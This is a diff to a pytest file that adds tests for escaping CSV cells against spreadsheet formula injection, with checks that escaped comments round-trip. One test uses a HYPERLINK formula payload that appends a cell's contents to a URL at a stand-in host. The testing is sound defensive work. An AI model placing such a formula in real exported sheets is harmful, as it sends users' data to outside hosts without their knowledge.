@@ -8,7 +8,16 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from got_r1.audit.sheets import _Faults, _score, export_sheet, import_sheet, read_ratings
+from got_r1.audit.sheets import (
+    _escape,
+    _Faults,
+    _score,
+    _unescape,
+    blank_sheet,
+    export_sheet,
+    import_sheet,
+    read_ratings,
+)
 from got_r1.audit.study import build_study
 from got_r1.errors import BadInput
 
@@ -52,6 +61,31 @@ def test_a_sheet_comes_back(study):
     import_sheet(study, filled(study, "bob"))
     assert export_sheet(study, study.parent / "all.csv") == 20
     assert {row["rater"] for row in rows(study.parent / "all.csv")} == {"ann", "bob"}
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "'="])
+def test_no_cell_is_a_formula(start):
+    text = f'{start}HYPERLINK("http://a.b?"&A1)'
+    sheet = blank_sheet([{"id": "001", "prompt": text}])
+    (row,) = csv.DictReader(io.StringIO(sheet, newline=""))
+    assert row["prompt"] == f"'{text}"
+
+
+@pytest.mark.parametrize("comment", ["=1+1", "-2 for the star", "@ann", "'=1", "''+1", "'quoted'"])
+def test_comments_that_look_like_formulas_come_back(study, comment):
+    import_sheet(study, filled(study, comment=_escape(comment)))
+    again = study.parent / "again.csv"
+    for _ in range(2):
+        assert read_ratings(study)["ann"]["003"]["comment"] == comment
+        export_sheet(study, again, "ann")
+        assert not {row["comment"][0] for row in rows(again)} & set("=+-@")
+        import_sheet(study, again, replace=True)
+
+
+@given(st.text(alphabet="'=+-@\t\r\na1"))
+def test_escaped_cells_are_harmless_and_come_back(text):
+    assert _unescape(_escape(text)) == text
+    assert not _escape(text).startswith(tuple("=+-@\t\r\n"))
 
 
 def test_each_rater_has_an_order_of_their_own(study):
